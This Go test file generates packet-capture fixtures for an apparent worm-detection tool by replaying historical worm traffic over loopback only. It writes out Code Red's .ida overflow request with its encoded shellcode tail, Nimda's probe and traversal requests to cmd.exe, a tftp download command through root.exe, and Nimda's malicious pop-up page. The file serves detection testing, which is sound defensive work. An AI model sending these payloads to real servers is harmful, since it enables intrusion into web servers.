//go:build linux

package passive

// The capture fixtures in testdata/ are made here, not by hand:
//
//	go test ./passive -run TestGenerateCaptures -gencap   (as root)
//
// It starts loopback servers on 127.77.0.0/16 (and [::1]), sends the real
// worm request bytes over real TCP connections, and captures the kernel's
// frames on "lo" through an AF_PACKET socket (Live's own socket code).
// Only frames of this traffic (127.77.0.0/16, or TCP port 18081 on ::1)
// are kept, so other tests using loopback at the same time do not leak in.
//
// Hosts in the fixtures:
//
//	127.77.0.80:80   victim web server (404 to everything but "/")
//	127.77.0.81:80   a Nimda-infected server: "/" carries window.open("readme.eml"
//	[::1]:18081      victim web server over IPv6
//	127.77.10.1      Code Red I          127.77.10.2  Code Red II
//	127.77.10.3      Nimda: 16 probes + tftp follow-up, one connection each
//	127.77.10.4      Code Red II split over 5 TCP segments (TCP_NODELAY, 5 writes)
//	127.77.10.5      fan-out: SYNs to 25 distinct 127.77.1.x:80 (no listener: RST)
//	127.77.10.6      keep-alive: an ordinary GET, then a Nimda probe, one connection
//	127.77.20.1      ordinary browsing (keep-alive, 3 requests) incl. the infected server's "/"
//	127.77.20.2      a scanner's single "GET /NULL.ida"
//	127.77.20.3      connects to 5 distinct hosts on port 80 (below the fan-out threshold)
//	::1              Nimda probe 5 over IPv6
//
// reordered.pcap is derived from loopback.pcap (the kernel cannot reorder on
// loopback): the data segments of 127.77.10.4's split request are written in
// reverse order, everything else unchanged.

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"flag"
	"io"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
	"github.com/google/gopacket/pcapgo"

	"redsweep/fingerprint"
)

var gencap = flag.Bool("gencap", false, "regenerate the capture fixtures in testdata/ (needs root; sends only over loopback)")

const (
	codeRedTail = "%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a"
	nimdaPage   = "<html><script language=\"JavaScript\">window.open(\"readme.eml\", null, \"resizable=no,top=6000,left=6000\")</script></html>"
)

type frame struct {
	data []byte
	ts   time.Time
}

func TestGenerateCaptures(t *testing.T) {
	if !*gencap {
		t.Skip("fixture generator: run with -gencap (as root) to rewrite testdata/*.pcap*")
	}
	sock, err := openPacketSocket("lo")
	if err != nil {
		t.Fatal(err)
	}
	defer sock.close()
	ours := netip.MustParsePrefix("127.77.0.0/16")
	var (
		mu     sync.Mutex
		frames []frame
	)
	ctx, cancel := context.WithCancel(context.Background())
	capDone := make(chan error, 1)
	go func() {
		dl := []gopacket.DecodingLayer{&layers.Ethernet{}, &layers.IPv4{}, &layers.IPv6{}, &layers.TCP{}}
		p := gopacket.NewDecodingLayerParser(layers.LayerTypeEthernet, dl...)
		p.IgnoreUnsupported = true
		var decoded []gopacket.LayerType
		capDone <- sock.each(ctx, func(b []byte, ts time.Time, _ layers.LinkType) {
			_ = p.DecodeLayers(b, &decoded)
			keep := false
			for _, lt := range decoded {
				switch lt {
				case layers.LayerTypeIPv4:
					ip := dl[1].(*layers.IPv4)
					s, _ := netip.AddrFromSlice(ip.SrcIP.To4())
					d, _ := netip.AddrFromSlice(ip.DstIP.To4())
					keep = ours.Contains(s) || ours.Contains(d)
				case layers.LayerTypeTCP:
					tcp := dl[3].(*layers.TCP)
					if slicesContain(decoded, layers.LayerTypeIPv6) && (tcp.SrcPort == 18081 || tcp.DstPort == 18081) {
						keep = true
					}
				}
			}
			if keep {
				mu.Lock()
				frames = append(frames, frame{bytes.Clone(b), ts})
				mu.Unlock()
			}
		})
	}()
	time.Sleep(100 * time.Millisecond) // let the socket start reading

	victim := serve(t, "tcp4", "127.77.0.80:80", func(path string) string {
		if path == "/" {
			return "HTTP/1.1 200 OK\r\nServer: Apache/1.3.20\r\nContent-Length: 5\r\n\r\nhello"
		}
		return "HTTP/1.1 404 Not Found\r\nServer: Apache/1.3.20\r\nContent-Length: 0\r\n\r\n"
	})
	infected := serve(t, "tcp4", "127.77.0.81:80", func(path string) string {
		return "HTTP/1.1 200 OK\r\nServer: Microsoft-IIS/5.0\r\nContent-Type: text/html\r\nContent-Length: " +
			itoa(len(nimdaPage)) + "\r\n\r\n" + nimdaPage
	})
	victim6 := serve(t, "tcp6", "[::1]:18081", func(string) string {
		return "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"
	})

	cr1 := "GET /default.ida?" + strings.Repeat("N", 224) + codeRedTail + " HTTP/1.0\r\nContent-type: text/xml\r\nContent-length: 3379\r\n\r\n"
	cr2 := "GET /default.ida?" + strings.Repeat("X", 224) + codeRedTail + " HTTP/1.0\r\nContent-type: text/xml\r\nContent-length: 3379\r\n\r\n"
	// Code Red's request carries a body (the worm); a short stand-in keeps the fixture small.
	cr1 = cr1[:len(cr1)-len("3379\r\n\r\n")] + "16\r\n\r\n" + "\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90"
	cr2 = cr2[:len(cr2)-len("3379\r\n\r\n")] + "16\r\n\r\n" + "\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90"

	send(t, "127.77.10.1", victim, cr1)
	send(t, "127.77.10.2", victim, cr2)
	for _, u := range fingerprint.NimdaProbeURIs() {
		send(t, "127.77.10.3", victim, "GET "+u+" HTTP/1.0\r\nHost: www\r\nConnnection: close\r\n\r\n")
	}
	send(t, "127.77.10.3", victim, "GET /scripts/root.exe?/c+tftp%20-i%20127.77.10.3%20GET%20Admin.dll%20c:\\Admin.dll HTTP/1.0\r\nHost: www\r\n\r\n")
	// Split: five writes with Nagle off, a pause between them, so each is its own segment.
	parts := []string{cr2[:9], cr2[9:130], cr2[130:250], cr2[250:330], cr2[330:]}
	send(t, "127.77.10.4", victim, parts...)
	for i := 1; i <= 25; i++ {
		synOnly(t, "127.77.10.5", "127.77.1."+itoa(i)+":80")
	}
	send(t, "127.77.10.6", victim, "GET / HTTP/1.1\r\nHost: www\r\n\r\n", "GET /scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir HTTP/1.1\r\nHost: www\r\nConnection: close\r\n\r\n")
	send(t, "127.77.20.1", victim, "GET / HTTP/1.1\r\nHost: www\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 5.5; Windows 98)\r\n\r\n"+
		"GET /index.html HTTP/1.1\r\nHost: www\r\n\r\n"+
		"POST /cgi-bin/order.cgi HTTP/1.1\r\nHost: www\r\nContent-Length: 11\r\n\r\nqty=1&id=42")
	send(t, "127.77.20.1", infected, "GET / HTTP/1.1\r\nHost: www\r\nConnection: close\r\n\r\n")
	send(t, "127.77.20.2", victim, "GET /NULL.ida HTTP/1.0\r\n\r\n")
	for i := 1; i <= 5; i++ {
		synOnly(t, "127.77.20.3", "127.77.2."+itoa(i)+":80")
	}
	send6(t, victim6, "GET "+fingerprint.NimdaProbeURIs()[4]+" HTTP/1.0\r\n\r\n")

	time.Sleep(300 * time.Millisecond)
	cancel()
	if err := <-capDone; err != nil {
		t.Fatal(err)
	}
	mu.Lock()
	defer mu.Unlock()
	t.Logf("captured %d frames", len(frames))

	writePcap(t, "loopback.pcap", frames, false)
	writePcap(t, "loopback.pcap.gz", frames, true)
	writePcapng(t, "loopback.pcapng", frames)
	writePcap(t, "reordered.pcap", reorderSplit(t, frames), false)
}

func slicesContain(s []gopacket.LayerType, v gopacket.LayerType) bool {
	for _, x := range s {
		if x == v {
			return true
		}
	}
	return false
}

func itoa(i int) string { return strconv.Itoa(i) }

// serve answers each request line on a connection with reply(path) until EOF.
func serve(t *testing.T, network, addr string, reply func(path string) string) string {
	t.Helper()
	ln, err := net.Listen(network, addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				c.SetDeadline(time.Now().Add(5 * time.Second))
				br := bufio.NewReader(c)
				for {
					line, err := br.ReadString('\n')
					if err != nil {
						return
					}
					f := strings.Fields(line)
					path := ""
					if len(f) > 1 {
						path = f[1]
					}
					clen := 0
					for {
						h, err := br.ReadString('\n')
						if err != nil || h == "\r\n" || h == "\n" {
							break
						}
						if k, v, ok := strings.Cut(h, ":"); ok && strings.EqualFold(k, "content-length") {
							clen = atoi(strings.TrimSpace(v))
						}
					}
					if clen > 0 && clen < 4096 {
						io.CopyN(io.Discard, br, int64(clen))
					}
					if _, err := io.WriteString(c, reply(path)); err != nil {
						return
					}
					if strings.Contains(line, "HTTP/1.0") {
						return
					}
				}
			}()
		}
	}()
	return ln.Addr().String()
}

func atoi(s string) int { n, _ := strconv.Atoi(s); return n }

// send connects from local (port chosen by the kernel), writes each part as
// its own segment and reads until the server closes or goes quiet.
func send(t *testing.T, local, remote string, parts ...string) {
	t.Helper()
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(local)}, Timeout: 2 * time.Second}
	c, err := d.Dial("tcp4", remote)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.(*net.TCPConn).SetNoDelay(true)
	for i, p := range parts {
		if i > 0 {
			time.Sleep(20 * time.Millisecond)
		}
		if _, err := io.WriteString(c, p); err != nil {
			t.Fatal(err)
		}
	}
	c.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
	io.Copy(io.Discard, c)
	time.Sleep(10 * time.Millisecond)
}

func send6(t *testing.T, remote, req string) {
	t.Helper()
	c, err := net.DialTimeout("tcp6", remote, 2*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	io.WriteString(c, req)
	c.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
	io.Copy(io.Discard, c)
}

// synOnly tries to connect where nothing listens: the kernel answers RST.
func synOnly(t *testing.T, local, remote string) {
	t.Helper()
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(local)}, Timeout: 500 * time.Millisecond}
	if c, err := d.Dial("tcp4", remote); err == nil {
		c.Close()
	}
}

func writePcap(t *testing.T, name string, frames []frame, gz bool) {
	t.Helper()
	var buf bytes.Buffer
	var w io.Writer = &buf
	var zw *gzip.Writer
	if gz {
		zw = gzip.NewWriter(&buf)
		w = zw
	}
	pw := pcapgo.NewWriter(w)
	if err := pw.WriteFileHeader(65535, layers.LinkTypeEthernet); err != nil {
		t.Fatal(err)
	}
	for _, f := range frames {
		if err := pw.WritePacket(gopacket.CaptureInfo{Timestamp: f.ts, CaptureLength: len(f.data), Length: len(f.data)}, f.data); err != nil {
			t.Fatal(err)
		}
	}
	if zw != nil {
		zw.Close()
	}
	writeFixture(t, name, buf.Bytes())
}

func writePcapng(t *testing.T, name string, frames []frame) {
	t.Helper()
	var buf bytes.Buffer
	w, err := pcapgo.NewNgWriter(&buf, layers.LinkTypeEthernet)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range frames {
		if err := w.WritePacket(gopacket.CaptureInfo{Timestamp: f.ts, CaptureLength: len(f.data), Length: len(f.data)}, f.data); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	writeFixture(t, name, buf.Bytes())
}

func writeFixture(t *testing.T, name string, b []byte) {
	t.Helper()
	if len(b) > 100<<10 {
		t.Errorf("%s is %d bytes, over the 100 KB fixture budget", name, len(b))
	}
	if err := os.WriteFile(filepath.Join("testdata", name), b, 0o644); err != nil {
		t.Fatal(err)
	}
	t.Logf("wrote testdata/%s (%d bytes)", name, len(b))
}

// reorderSplit reverses the order of 127.77.10.4's data segments.
func reorderSplit(t *testing.T, frames []frame) []frame {
	t.Helper()
	var idx []int
	for i, f := range frames {
		if isSplitData(f.data) {
			idx = append(idx, i)
		}
	}
	if len(idx) < 3 {
		t.Fatalf("split request has %d data segments, want at least 3", len(idx))
	}
	out := append([]frame(nil), frames...)
	for k, i := range idx {
		out[i] = frames[idx[len(idx)-1-k]]
	}
	return out
}
